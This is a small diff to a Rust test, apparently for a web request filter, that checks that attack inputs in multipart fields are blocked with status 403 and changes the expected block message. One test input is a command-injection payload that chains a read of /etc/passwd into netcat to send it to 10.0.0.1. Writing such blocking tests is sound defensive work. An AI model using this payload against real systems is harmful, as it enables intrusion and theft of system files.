@@ -34,7 +34,7 @@ fn attacks_are_blocked_wherever_they_are() {
         (multipart("two pairs"), multipart("; cat /etc/passwd | nc 10.0.0.1 80")),
     ] {
         assert_eq!((status(&benign), status(&attack)), (200, 403), "{benign}\n{attack}");
-        assert!(attack.contains("This request was blocked"), "{attack}");
+        assert!(attack.contains("looks like an attack"), "{attack}");
     }
     let events = served.events.wait(3);
     assert!(events.iter().all(|event| event.contains("\"kind\":\"embedded\"")), "{events:?}");
